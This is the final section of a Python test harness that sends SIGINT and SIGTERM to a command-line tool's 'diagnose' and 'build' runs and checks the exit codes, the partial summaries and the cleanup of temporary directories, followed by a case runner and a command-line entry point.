@case("6", "SIGINT during batch diagnose of a big log: partial summary, rc 130")
def _sigint_batch(ctx: Ctx) -> str | None:
    n = ctx.scale(10_000_000, 2_000_000)
    return _signal_during(
        ctx,
        ["diagnose", "-j", "1", str(many_lines(ctx, f"m{n}.log", n, every=10))],
        signal.SIGINT,
        3,
        130,
        "lines",
    )


@case("6", "SIGINT while loading / searching / building: rc 130, no temp dir")
def _sigint_build(ctx: Ctx) -> str | None:
    folder = big_content(ctx, "sigint", ctx.scale(20_000, 5_000), 20)
    cache = Ctx(ctx.work / "sigint-cache", ctx.quick)
    why = _signal_during(cache, ["build", str(folder)], signal.SIGINT, 1.0, 130, "interrupted")
    leftovers = list(cache.cache.glob("tmp-*")) if cache.cache.exists() else []
    return why or (None if not leftovers else "temporary directory left")


@case("6", "SIGTERM during batch diagnose / build: summary, rc 143, no temp dir")
def _sigterm(ctx: Ctx) -> str | None:
    n = ctx.scale(10_000_000, 2_000_000)
    why = _signal_during(
        ctx,
        ["diagnose", "-j", "1", str(many_lines(ctx, f"m{n}.log", n, every=10))],
        signal.SIGTERM,
        3,
        143,
        "lines",
    )
    folder = big_content(ctx, "sigterm", ctx.scale(20_000, 5_000), 20)
    cache = Ctx(ctx.work / "sigterm-cache", ctx.quick)
    why = why or _signal_during(
        cache, ["build", str(folder)], signal.SIGTERM, 1.0, 143, "terminated"
    )
    leftovers = list(cache.cache.glob("tmp-*")) if cache.cache.exists() else []
    return why or (None if not leftovers else "temporary directory left")


# -- running --------------------------------------------------------------------------------------


def run_cases(ctx: Ctx, only: Sequence[str]) -> Iterator[tuple[Case, str | None, float]]:
    for item in CASES:
        if only and not any(o.lower() in f"{item.section} {item.name}".lower() for o in only):
            continue
        start = time.monotonic()
        try:
            why = item.check(ctx)
        except Exception as exc:  # noqa: BLE001 - a case that breaks is a failed case
            why = f"runner error: {type(exc).__name__}: {exc}"
        yield item, why, time.monotonic() - start


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="big inputs divided by ten or more")
    parser.add_argument("--only", nargs="*", default=[], help="cases whose name holds TEXT")
    parser.add_argument("--work", type=Path, default=Path("/tmp/kb-adversarial"))
    parser.add_argument("--json", action="store_true", help="one JSON object per case")
    parser.add_argument("--list", action="store_true", help="list the cases and stop")
    args = parser.parse_args(argv)
    if args.list:
        for n, item in enumerate(CASES, 1):
            print(f"{n:3d} [{item.section}] {item.name}")
        return 0
    args.work.mkdir(parents=True, exist_ok=True)
    ctx = Ctx(args.work, args.quick)
    passed = failed = 0
    for item, why, seconds in run_cases(ctx, args.only):
        if why is None:
            passed += 1
        else:
            failed += 1
        if args.json:
            print(
                json.dumps(
                    {
                        "section": item.section,
                        "case": item.name,
                        "passed": why is None,
                        "why": why,
                        "seconds": round(seconds, 1),
                    }
                ),
                flush=True,
            )
        else:
            mark = "pass" if why is None else "FAIL"
            print(
                f"{mark} [{item.section}] {item.name} ({seconds:.1f} s)"
                + (f": {why}" if why else ""),
                flush=True,
            )
    if FOLLOW:
        print("follow:", json.dumps(FOLLOW), flush=True)
    print(f"{passed} passed, {failed} failed", flush=True)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
